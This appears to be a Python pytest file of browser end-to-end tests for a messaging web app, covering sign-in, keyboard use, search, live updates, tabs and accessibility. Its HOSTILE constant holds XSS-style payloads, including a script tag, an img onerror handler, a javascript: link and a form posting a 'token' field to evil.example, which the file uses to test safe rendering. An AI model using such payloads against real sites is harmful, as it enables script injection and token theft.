"""The pages as a person meets them, in a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import httpx2
import pytest

from tests.support.browser import PHONE, Window, window
from tests.support.running import Workspace, running, workspace
from tests.support.waiting import until

if TYPE_CHECKING:
    from playwright.sync_api import Browser

HOSTILE = """<script>document.body.dataset.stolen = 1</script>
<img src="https://evil.example/a.png" onerror="document.body.dataset.stolen=1">
![a](https://evil.example/b.png) [a](javascript:document.body.dataset.stolen=1)
<style>* { display: none }</style> <form action="https://evil.example"><input name="token">
| broken | table
**never closed `code
"""


@pytest.fixture(scope="session")
def production(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Workspace, str]]:
    """Production, and a token of a person in it."""
    place = workspace(tmp_path_factory.mktemp("production"), "production")
    with running(place):
        yield place, place.token("ada", "--instance", "ada")


def test_a_person_signs_in_reads_and_answers_by_keyboard_alone(
    browser: Browser, production: tuple[Workspace, str]
) -> None:
    place, token = production
    crew = {"authorization": f"Bearer {place.token('crew')}"}
    with (
        httpx2.Client(base_url=f"{place.url}/api/v1", headers=crew, timeout=60) as api,
        window(browser, place.url) as ada,
    ):
        page, keys = ada.page, ada.page.keyboard
        ada.go("/inbox")
        assert "/sign-in" in page.url
        # The field has the focus already.
        keys.type(token)
        keys.press("Enter")
        page.wait_for_url("**/inbox?done=welcome")
        api.post("/instances", json={"instanceId": "nova", "role": "Developer"})
        api.post(
            "/messages", json={"from": "nova", "to": "ada", "subject": "Which way?", "content": "Left or **right**?"}
        )
        page.get_by_role("link", name="Which way?").wait_for()
        keys.press("j")
        keys.press("Enter")
        page.get_by_role("heading", name="Which way?").wait_for()
        keys.press("r")
        keys.type("Left.")
        keys.press("Control+Enter")
        page.wait_for_url("**done=sent")
        assert page.get_by_text("Left.", exact=True).is_visible()
        keys.press("g")
        keys.press("m")
        page.get_by_role("heading", name="Messages").wait_for()
        sent = api.get("/messages", params={"instanceId": "nova"}).json()["messages"]
    assert [(one["from"], one["subject"], one["body"]) for one in sent] == [("ada", "Re: Which way?", "Left.")]
    assert "thread_id" in sent[0]


def test_an_agents_message_arrives_without_reloading(ada: Window, port: Workspace) -> None:
    ada.go("/inbox")
    ada.follows()
    ada.page.evaluate("window.sameDocument = true")
    port.call("send_message", from_="nova", to="ada", subject="It is done", content="All of it.")
    ada.page.get_by_role("link", name="It is done").wait_for()
    ada.page.get_by_text("unread", exact=True).first.wait_for(state="attached")
    assert ada.page.evaluate("window.sameDocument") is True


def test_what_somebody_opens_is_read(ada: Window, port: Workspace) -> None:
    sent = port.call("send_message", from_="lyra", to="ada", subject="Look at this", content="Now.")
    ada.go(f"/inbox/{sent['message']['id']}")
    ada.page.get_by_role("button", name="Mark as read").wait_for(state="detached")
    shown = port.call("get_message", id=sent["message"]["id"], instanceId="ada")
    assert shown["message"]["unread"] is False


def test_a_message_is_written_to_a_role_a_team_and_one_by_name(ada: Window, port: Workspace) -> None:
    ada.go("/")
    ada.page.keyboard.press("c")
    ada.page.get_by_role("heading", name="New message").wait_for()
    ada.page.get_by_text("Whom?").click()
    for name in ("Tester", "Harbour", "nova"):
        ada.page.get_by_role("button", name=name, exact=True).click()
    assert ada.page.get_by_label("To", exact=True).input_value() == "role:Tester, project-team:harbour, nova"
    ada.page.get_by_role("button", name="Harbour", exact=True).click()
    ada.page.get_by_label("Subject").fill("To some of you")
    ada.page.get_by_label("Message", exact=True).fill("- a\n- b")
    ada.page.get_by_role("button", name="Send").click()
    ada.page.wait_for_url("**done=sent")
    assert ada.page.locator(".prose li").count() == 2
    for name in ("lyra", "nova"):
        assert port.call("get_messages", instanceId=name)["messages"][0]["subject"] == "To some of you"


def test_a_draft_outlives_its_tab(ada: Window) -> None:
    ada.go("/inbox/new")
    ada.page.get_by_label("Message", exact=True).fill("Half a thought")
    ada.page.close()
    again = ada.tab("/inbox/new")
    assert again.get_by_label("Message", exact=True).input_value() == "Half a thought"


def test_search_finds_what_was_said_and_marks_it(ada: Window, port: Workspace) -> None:
    port.call("send_message", from_="nova", to="all", subject="The lighthouse", content="Its lamp is a Fresnel lens.")
    ada.go("/")
    ada.page.keyboard.press("/")
    ada.page.keyboard.type("fresnel")
    ada.page.keyboard.press("Enter")
    ada.page.get_by_role("link", name="The lighthouse").wait_for()
    assert ada.page.locator("mark").all_inner_texts() == ["Fresnel"]


@pytest.mark.parametrize("text", [HOSTILE, "x" * 100_000, "שלום עולם " * 50, "[" * 5_000, "\u202eevil\u202c " * 20])
def test_what_others_wrote_is_shown_harmlessly(ada: Window, port: Workspace, text: str) -> None:
    subject = text[:150].replace("\n", " ")
    sent = port.call("send_message", from_="nova", to="ada", subject=subject, content=text)
    for path in (f"/inbox/{sent['message']['id']}", "/inbox", "/", "/search?q=nova"):
        ada.go(path)
        ada.page.locator("h1").wait_for()
        assert ada.page.locator("[data-stolen]").count() == 0
        assert ada.page.locator("main img, main form[action^=http], main style, main script").count() == 0
        width = ada.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert width <= 0, path
    assert ada.page.locator("main").is_visible()


def test_environments_cannot_be_taken_for_each_other(
    browser: Browser, port: Workspace, production: tuple[Workspace, str]
) -> None:
    looks = []
    for place in (port, production[0]):
        with window(browser, place.url) as one:
            one.go("/sign-in")
            page = one.page
            colour = page.locator(".hull").evaluate("one => getComputedStyle(one).backgroundColor")
            icon = page.locator("link[rel=icon]").get_attribute("href")
            looks.append((page.title(), colour, httpx2.get(f"{place.url}{icon}").text, page.locator(".banner").count()))
    assert all(mine != other for mine, other in zip(*looks, strict=True)), looks


def test_without_scripts_one_reads_and_writes(browser: Browser, port: Workspace) -> None:
    port.call("send_message", from_="nova", to="bo", subject="Plain", content="**Text**")
    with window(browser, port.url, java_script_enabled=False) as bo:
        bo.named("bo")
        bo.go("/")
        bo.page.get_by_role("link", name="Plain").first.click()
        assert bo.page.locator(".prose strong").inner_text() == "Text"
        bo.page.get_by_label("Your message").fill("Thanks.")
        bo.page.get_by_role("button", name="Send").click()
        bo.page.wait_for_url("**done=sent")
    assert port.call("get_messages", instanceId="nova")["messages"][0]["body"] == "Thanks."


def test_a_page_outlives_a_restart_of_the_server_and_misses_nothing(browser: Browser, tmp_path: Path) -> None:
    place = workspace(tmp_path)
    with window(browser, place.url) as ada:
        with running(place):
            ada.named("ada")
            ada.go("/inbox")
            ada.follows()
        ada.may_lose = True
        said = ada.page.locator("[data-live-state]")
        said.get_by_text("tries again by itself").wait_for()
        with running(place):
            place.call("send_message", from_="nova", to="ada", subject="While you were away", content="I was here.")
            ada.page.get_by_role("link", name="While you were away").wait_for()
            ada.follows()
            said.get_by_text("nothing was missed").wait_for()


def test_all_tabs_of_a_browser_share_one_stream_and_all_are_told(ada: Window, port: Workspace) -> None:
    ada.go("/inbox")
    ada.follows()
    tabs = [ada.tab("/inbox") for _ in range(7)]
    port.call("send_message", from_="nova", to="ada", subject="To every tab", content="x")
    for tab in tabs:
        # A tab that is behind another fetches when it is looked at.
        tab.bring_to_front()
        tab.get_by_role("link", name="To every tab").first.wait_for()
    # The one that holds the stream goes, and another takes over.
    ada.page.close()
    ada.follows(tabs[0])
    port.call("send_message", from_="nova", to="ada", subject="To those that are left", content="x")
    tabs[3].bring_to_front()
    tabs[3].get_by_role("link", name="To those that are left").first.wait_for()


def test_a_person_who_is_signed_out_elsewhere_is_led_to_sign_in(
    browser: Browser, production: tuple[Workspace, str]
) -> None:
    place, token = production
    with window(browser, place.url) as one, window(browser, place.url) as other:
        one.sign_in(token)
        one.go("/inbox")
        one.follows()
        other.sign_in(token)
        other.go("/me")
        one.may_lose = True
        other.page.get_by_role("button", name="Sign out everywhere").click()
        other.page.wait_for_url("**/sign-in?done=left-everywhere")
        one.page.wait_for_url("**/sign-in?**")
        until(lambda: "Your visit ended" in one.page.locator("main").inner_text(), within=30)


@pytest.mark.needs_node
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", ["desk", "phone"])
def test_axe_finds_nothing_on_any_page(browser: Browser, port: Workspace, scheme: str, size: str) -> None:
    sent = port.call("send_message", from_="nova", to="ada", subject="A letter", content=HOSTILE, priority="urgent")
    port.call("create_task", id=f"t-{scheme}-{size}", title="Stuck", description="x", project_id="harbour")
    port.call("update_task", id=f"harbour/t-{scheme}-{size}", updates={"status": "blocked"})
    settings = {"color_scheme": scheme, **({"viewport": PHONE} if size == "phone" else {})}
    message = f"/inbox/{sent['message']['id']}"
    with window(browser, port.url, **settings) as ada:
        ada.go("/sign-in")
        assert ada.violations() == []
        ada.named("ada")
        paths = [
            *("/", "/inbox", "/inbox?box=everybody", message, "/inbox/new", "/search?q=letter", "/me"),
            *("/inbox/missing", "/instances", "/instances/nova", "/connect", "/tokens", "/webhooks"),
        ]
        for path in paths:
            ada.page.goto(f"{ada.url}{path}")
            assert ada.violations() == [], path
            ada.complaints.clear()
